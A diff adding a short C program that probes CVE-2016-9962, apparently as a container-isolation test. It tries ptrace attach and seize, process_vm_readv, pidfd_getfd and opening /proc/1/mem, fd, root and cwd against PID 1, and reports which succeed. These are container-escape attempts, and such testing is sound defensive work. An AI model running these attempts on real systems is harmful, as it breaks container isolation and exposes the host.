@@ -1,0 +1,79 @@
+/* enter-init - CVE-2016-9962: takes over PID 1, which came from the host, or its descriptors.
+ *
+ * Prints a line for each attempt, "WAY: reason" or "WAY: SUCCEEDED".
+ */
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/ptrace.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <unistd.h>
+
+enum { INIT = 1, SYNC_PIPE = 3 };
+
+static long attach(void)
+{
+    return ptrace(PTRACE_ATTACH, INIT, NULL, NULL);
+}
+
+static long seize(void)
+{
+    return ptrace(PTRACE_SEIZE, INIT, NULL, NULL);
+}
+
+/* Where a static program that is not position-independent is loaded. */
+static long read_memory(void)
+{
+    char bytes[4];
+    struct iovec local = {.iov_base = bytes, .iov_len = sizeof(bytes)};
+    struct iovec remote = {.iov_base = (void *)0x400000, .iov_len = sizeof(bytes)};
+    return process_vm_readv(INIT, &local, 1, &remote, 1, 0);
+}
+
+static long take_descriptor(void)
+{
+    int pidfd = (int)syscall(SYS_pidfd_open, INIT, 0);
+    return pidfd < 0 ? pidfd : syscall(SYS_pidfd_getfd, pidfd, SYNC_PIPE, 0);
+}
+
+static long open_memory(void)
+{
+    return open("/proc/1/mem", O_RDWR | O_CLOEXEC);
+}
+
+static long list_descriptors(void)
+{
+    return open("/proc/1/fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+}
+
+static long open_root(void)
+{
+    return open("/proc/1/root/.", O_PATH | O_CLOEXEC);
+}
+
+static long open_cwd(void)
+{
+    return open("/proc/1/cwd/.", O_PATH | O_CLOEXEC);
+}
+
+static const struct {
+    const char *name;
+    long (*attempt)(void);
+} WAYS[] = {
+    {"ptrace attach", attach},         {"ptrace seize", seize},
+    {"process_vm_readv", read_memory}, {"pidfd_getfd", take_descriptor},
+    {"/proc/1/mem", open_memory},      {"/proc/1/fd", list_descriptors},
+    {"/proc/1/root", open_root},       {"/proc/1/cwd", open_cwd},
+};
+
+int main(void)
+{
+    for (size_t i = 0; i < sizeof(WAYS) / sizeof(WAYS[0]); i++) {
+        long result = WAYS[i].attempt();
+        (void)printf("%s: %s\n", WAYS[i].name, result < 0 ? strerror(errno) : "SUCCEEDED");
+    }
+    return 0;
+}
